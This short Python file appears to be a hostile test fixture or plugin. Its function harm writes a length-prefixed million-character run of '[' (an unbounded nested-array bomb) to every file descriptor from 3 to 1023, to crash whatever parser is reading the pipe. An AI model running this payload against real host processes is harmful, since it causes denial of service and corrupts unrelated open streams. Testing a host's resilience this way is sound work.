"""Answers over the pipe by itself, with arrays in arrays in arrays."""

import os


def harm(asked, services):
    body = b"[" * 1_000_000
    for each in range(3, 1024):
        try:
            os.write(each, len(body).to_bytes(4, "big") + body)
        except OSError:
            continue
